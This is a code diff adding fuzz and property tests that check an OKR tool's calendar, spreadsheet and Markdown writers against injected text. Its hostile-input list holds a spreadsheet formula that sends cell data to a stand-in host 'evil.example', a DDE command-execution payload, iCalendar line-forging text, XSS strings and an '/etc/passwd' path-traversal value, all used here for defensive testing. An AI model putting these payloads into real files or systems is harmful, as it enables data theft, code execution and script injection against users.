@@ -16,8 +16,14 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { check } from '../../src/cli/check.ts';
+import ICAL from 'ical.js';
+import { markdownToHtml } from 'satteri';
+import { calendarEvents, calendarIcs } from '../../src/export/calendar-ics.ts';
 import { computeFigures } from '../../src/figures/index.ts';
+import { escapeMarkdown } from '../../src/lib/escape-markdown.ts';
+import { NUMBER_TEXT, neutraliseCell, restoreCell } from '../../src/lib/spreadsheet.ts';
 import { cleanContentRoots, contentRoot, load } from '../helpers.ts';
+import * as builder from '../model-builder.ts';
 
 afterAll(cleanContentRoots);
 
@@ -51,7 +57,19 @@ type Mutation =
   | { kind: 'indent'; at: number; spaces: number }
   | { kind: 'extreme'; at: number; value: string }
   | { kind: 'body'; text: string }
-  | { kind: 'alias-bomb' };
+  | { kind: 'alias-bomb' }
+  | { kind: 'hostile-text'; at: number; value: string };
+
+/** Issue 26: texts that must never become a calendar line, a formula, a control character or markup anywhere. */
+const HOSTILE_TEXTS = [
+  'Sales\r\nBEGIN:VEVENT\r\nUID:checkin-sales-2026-q3-2026-07-01@okrbook\r\nEND:VEVENT',
+  'Alpha\u001b[0m',
+  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  '<img src=x onerror=alert(1)> [x](javascript:alert(1)) {/* c */}',
+  `Siti ${'Nurhaliza '.repeat(32)}binti Tarudin`,
+  'Zoe\u0308 NG',
+];
 
 const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
   fc.record({ kind: fc.constant('delete-line' as const), at: fc.nat() }),
@@ -65,6 +83,8 @@ const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
   fc.record({ kind: fc.constant('extreme' as const), at: fc.nat(), value: fc.constantFrom('1e308', '-1e308', '1e16', '1e15', '1e-300', '1000000000000', '9999-12-31', '0001-01-01', '2999-12-31', '1900-01-01', '.inf') }),
   fc.record({ kind: fc.constant('body' as const), text: fc.constantFrom('<Callout>\nopen', '<!-- internal -->', '![x](./missing.png)', "import X from './nope.astro'\n\n<X />", '{', '<img src="./gone.jpg">', '![x](../../../../../etc/passwd)') }),
   fc.record({ kind: fc.constant('alias-bomb' as const) }),
+  // Issue 26: texts that forge calendar lines, run as spreadsheet formulas, carry control characters or markup, or make long slugs.
+  fc.record({ kind: fc.constant('hostile-text' as const), at: fc.nat(), value: fc.constantFrom(...HOSTILE_TEXTS.map((text) => JSON.stringify(text))) }),
 );
 
 const BOMB = ['bomb_a: &a [x, x, x, x, x, x, x, x, x, x]', ...'bcdefgh'.split('').map((k, i) => `bomb_${k}: &${k} [${Array(10).fill(`*${'abcdefgh'[i]}`).join(', ')}]`), 'odd: !unknown value'];
@@ -101,6 +121,10 @@ function mutate(bytes: Buffer, m: Mutation): Buffer {
     }
     case 'body':
       return Buffer.from(`${text}\n\n${m.text}\n`);
+    case 'hostile-text': {
+      lines[line] = (lines[line] ?? '').replace(/:\s.*$/, `: ${m.value}`);
+      return Buffer.from(lines.join('\n'));
+    }
     case 'alias-bomb':
       lines.splice(1, 0, ...BOMB);
       return Buffer.from(lines.join('\n'));
@@ -197,6 +221,55 @@ describe('check on hostile files and names', () => {
         }
       }),
       { numRuns: runs(200) },
+    );
+  });
+});
+
+/** Issue 26: the writers of calendars, spreadsheets and scaffolds, on any text. */
+describe('writers on hostile text', () => {
+  // Letters, Markdown, HTML, MDX and iCalendar syntax, spreadsheet formula leads, line breaks and control characters.
+  const hostileChar = fc.constantFrom(...'aZ9 é漢\\`*_{}[]()<>#+-.!|~&;,=@\'"/\t\r\n\u0000\u0007\u000b\u001b\u007f'.split(''), 'BEGIN:VEVENT', 'UID:', '&amp;', '-->', '<!--');
+  const hostileText = fc.string({ unit: hostileChar, minLength: 1, maxLength: 40 });
+
+  it('a calendar name or team name never adds a line, an event or a control character (200 cases)', () => {
+    const q3 = builder.cycle('2026-q3', '2026-07-01', '2026-09-30');
+    fc.assert(
+      fc.property(hostileText, hostileText, (name, title) => {
+        const m = builder.model({ asOf: '2026-08-15', cycles: [q3], teams: [builder.team('sales', { name })], objectives: [builder.objective('2026-q3/sales/win', 'sales', '2026-q3', [builder.kr('a')])] });
+        const events = calendarEvents(m, computeFigures(m), { origin: null, base: '/', domain: 'okrbook' }, 'sales');
+        const text = calendarIcs(title, events, '2026-08-15');
+        expect(text.endsWith('\r\n')).toBe(true);
+        const lines = text.split('\r\n').slice(0, -1);
+        expect(lines.filter((line) => /[\u0000-\u0008\u000a-\u001f\u007f]/.test(line))).toEqual([]);
+        expect(lines.filter((line) => line.startsWith('BEGIN:'))).toHaveLength(events.length + 1);
+        expect(new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent')).toHaveLength(events.length);
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  it('a spreadsheet cell never starts a formula, and import reads back what was written (1,000 cases)', () => {
+    fc.assert(
+      fc.property(hostileText, (text) => {
+        const cell = neutraliseCell(text);
+        if (!NUMBER_TEXT.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+        expect(restoreCell(cell)).toBe(text);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('a text copied into a scaffold renders as that text, in one paragraph and no element (1,000 cases)', () => {
+    const escapeHtml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
+    fc.assert(
+      fc.property(hostileText.filter((text) => /[^\s\u0000-\u001f\u007f]/.test(text)), (text) => {
+        // Control characters are refused by check before any scaffold reads a text; GFM's autolinks (www., http:, a@b) are links by design.
+        const clean = text.replace(/[\u0000-\u0008\u000b-\u001f\u007f]/g, '');
+        fc.pre(clean.trim() !== '');
+        const html = markdownToHtml(`Before ${escapeMarkdown(clean)} after`, { features: { gfm: true, smartPunctuation: false } }).html.trim();
+        expect(html).toBe(`<p>Before ${escapeHtml(clean.replace(/\s+/g, ' ').trim())} after</p>`);
+      }),
+      { numRuns: 1000 },
     );
   });
 });
